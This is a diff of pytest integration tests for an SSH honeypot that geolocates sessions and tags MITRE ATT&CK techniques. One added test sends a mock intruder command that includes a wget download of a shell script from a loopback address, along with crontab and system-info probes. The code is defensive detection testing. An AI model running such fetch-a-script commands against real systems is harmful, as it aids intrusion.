@@ -24,6 +24,7 @@ import asyncssh
 import pytest
 
 from tests.docker.service import SSH_OPTS, RunningService, remove_sensor_containers, service_config
+from tests.unit.test_enrich import write_dbs
 from tests.unit.test_triage import SAMPLES
 
 pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_engine")]
@@ -63,10 +64,13 @@ def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
 def service(
     tmp_path_factory: pytest.TempPathFactory, keys: dict[str, Any]
 ) -> Iterator[RunningService]:
+    folder = tmp_path_factory.mktemp("threat")
+    country_db, asn_db = write_dbs(folder)
     config = service_config(
-        tmp_path_factory.mktemp("pubkey") / "var",
+        folder / "var",
         auth={"accepted_key_fingerprints": [keys["fingerprint"]], "accept_keys_after_offers": 2},
         pool={"size": 1},
+        analysis={"geoip_country_db": str(country_db), "geoip_asn_db": str(asn_db)},
     )
     running = RunningService(config).start()
     try:
@@ -224,9 +228,34 @@ def test_export_bundle_carries_the_analysis(
         (keys["fingerprint"], True)
     ]
     assert [k["comment"] for k in analysis["authorized_keys"]] == ["mdrfckr"]
+    assert analysis["geo"]["country"] == "ZZ"
+    assert "T1098.004" in {t["technique"] for t in analysis["attack"]}
     (elf,) = [e for e in service.events("artifact.analysed") if e["path"] == "/tmp/x86"]
     analysis = _bundle_analysis(service, elf["session"], tmp_path)
     assert {a["path"]: a["yara"] for a in analysis["artifacts"]} == {
         "/tmp/x86": ["SandTrap_Mirai_Like"],
         "/tmp/bins.sh": ["SandTrap_Shell_Dropper"],
     }
+
+
+def test_geo_and_attack_techniques_of_a_real_session(service: RunningService) -> None:
+    result = service.ssh("uname -a; wget -q -T 1 http://127.0.0.1:9/x.sh; crontab -l; true")
+    assert result.returncode == 0, result.stderr
+    (kex,) = [e for e in service.events("session.exec") if e["input"].startswith("uname -a; wget")]
+    session = kex["session"]
+    geo = _wait(service, "session.geo", session)
+    assert (geo["country"], geo["country_name"]) == ("ZZ", "Loopback")
+    assert (geo["asn"], geo["as_org"]) == (64496, "Example Hosting")
+    deadline = time.monotonic() + 30
+    while time.monotonic() < deadline and len(service.events("session.attack", session)) < 3:
+        time.sleep(0.2)
+    tags = {e["technique"]: e for e in service.events("session.attack", session=session)}
+    assert set(tags) == {"T1082", "T1105", "T1053.003"}
+    assert tags["T1105"]["source"] == "session.exec"
+    assert tags["T1105"]["tactic"] == "Command and Control"
+    _cli(service, "index", "rebuild")
+    rows = [json.loads(line) for line in _cli(service, "techniques", "--json").splitlines()]
+    counted = {row["technique"]: row["sessions"] for row in rows}
+    assert counted["T1053.003"] >= 1 and counted["T1105"] >= 1
+    # The key-planting session earlier was tagged from its command and its diff.
+    assert "T1098.004" in counted
